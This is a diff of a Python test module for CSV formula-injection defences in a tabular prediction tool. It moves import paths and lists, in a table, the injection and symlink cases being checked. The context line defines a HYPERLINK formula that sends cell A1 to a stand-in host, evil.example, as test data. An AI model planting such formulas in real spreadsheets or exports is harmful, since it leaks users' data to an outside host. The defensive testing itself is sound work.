@@ -2,11 +2,11 @@
 
 | attack | expected result | where it is enforced |
 |---|---|---|
-| ``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab, CR cells in an ID column of a file to predict | written as ``'=HYPERLINK(...)`` etc., quoted; negative predictions stay numbers | ``tools.csv_safety.write_csv`` from ``tools.predict.predict_file`` |
+| ``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab, CR cells in an ID column of a file to predict | written as ``'=HYPERLINK(...)`` etc., quoted; negative predictions stay numbers | ``tools.io.csv_safety.write_csv`` from ``tools.predict.predict_file`` |
 | a formula as a class label | the prediction cell is neutralised too | the same |
 | a formula-named column | the header is neutralised | the same |
 | a CSV written by sandboxed code with formula cells | copied out neutralised, numbers unquoted | ``Workspace.copy_out`` via ``neutralise_csv_bytes`` |
-| a link planted at the predictions path | replaced by the file (atomic rename), not followed; file mode 0600 | ``tools.safe_files.write_atomic`` |
+| a link planted at the predictions path | replaced by the file (atomic rename), not followed; file mode 0600 | ``tools.io.safe_files.write_atomic`` |
 """
 
 from __future__ import annotations
@@ -21,8 +21,9 @@ import numpy as np
 import pandas as pd
 
 from tools.analyze import profile_table
-from tools.csv_safety import neutralise_cell, neutralise_csv_bytes
-from tools.models import TabularModel, column_kinds
+from tools.io.csv_safety import neutralise_cell, neutralise_csv_bytes
+from tools.models.estimator import TabularModel
+from tools.models.preprocessing import column_kinds
 from tools.predict import predict_file, training_schema
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
